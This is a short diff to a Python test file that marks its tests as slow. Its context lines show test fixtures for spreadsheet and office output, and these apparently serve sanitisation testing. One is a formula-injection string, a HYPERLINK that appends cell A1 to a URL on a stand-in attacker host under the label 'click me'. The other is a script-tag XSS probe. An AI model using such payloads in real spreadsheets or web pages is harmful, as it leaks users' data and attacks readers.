@@ -33,6 +33,8 @@ from tests.support.forms import source
 from tests.support.lint_xlsx import faults
 from tests.support.office import Office, ooxml_errors, png
 
+pytestmark = pytest.mark.slow
+
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 SCRIPT = "<script>alert(1)</script>"
 
